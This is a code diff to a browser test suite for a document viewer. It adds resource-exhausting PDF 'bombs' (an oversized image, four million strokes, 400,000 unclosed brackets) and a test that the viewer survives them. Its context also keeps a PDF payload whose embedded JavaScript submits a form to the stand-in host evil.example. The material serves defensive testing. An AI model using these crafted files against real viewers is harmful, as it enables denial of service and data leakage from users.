@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 
 import type { Page } from 'playwright-core';
 
-import { pdf } from '../fixtures/pdf.ts';
+import { packedPdf, pdf, pdfOf } from '../fixtures/pdf.ts';
 import { type Desk, desk, hasChromium, shoot, signIn, violations } from './browser.ts';
 import { answer, file } from './office.ts';
 import { payloads } from './payloads.ts';
@@ -10,6 +10,15 @@ import { payloads } from './payloads.ts';
 const evil =
   '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >> ' +
   '/AA << /WC << /S /URI /URI (https://evil.example) >> >>';
+
+const ascii = (text: string) => new TextEncoder().encode(text);
+
+/** Small files that ask for much: a picture of 30,000 × 30,000, four million strokes, and brackets without an end. */
+const bombs = [
+  packedPdf({ side: 30_000, image: 30_000, content: ascii('30000 0 0 30000 0 0 cm /I Do') }),
+  packedPdf({ content: ascii('0 0 m 500 500 l S '.repeat(4_000_000)) }),
+  pdfOf([`<< /Type /Catalog /Pages ${'['.repeat(400_000)} >>`]),
+];
 
 describe.skipIf(!hasChromium)('looking at files', { timeout: 120_000 }, () => {
   let room: Desk;
@@ -35,6 +44,7 @@ describe.skipIf(!hasChromium)('looking at files', { timeout: 120_000 }, () => {
           extension: '.txt',
           cleaned: false,
         },
+        ...bombs.map((bytes) => ({ bytes, mime, extension, cleaned: false })),
       ],
     });
   });
@@ -97,6 +107,25 @@ describe.skipIf(!hasChromium)('looking at files', { timeout: 120_000 }, () => {
         .allTextContents()
         .then((all) => all.join('')),
     ).toBe(payloads.join('\n'));
+    expect(alarms).toEqual([]);
+    await context.close();
+  });
+
+  test('outlives files that ask for more than there is, and goes on with the next', async () => {
+    const { page, context, alarms } = await room.page();
+    await open(page);
+    for (const number of bombs.keys()) {
+      await look(page, 6 + number);
+      // Drawn as far as it goes, or given up: never a viewer that keeps the officer waiting.
+      await page
+        .getByText(/Page 1 of 1|The file is damaged|brought the viewer to a stop/)
+        .waitFor();
+      await page.getByRole('button', { name: 'Close' }).click();
+      await expect.poll(() => page.frames().length).toBe(1);
+    }
+    // The case is there, and a sound file is shown as before.
+    await look(page, 1);
+    await page.getByText('Page 1 of 2').waitFor();
     expect(alarms).toEqual([]);
     await context.close();
   });
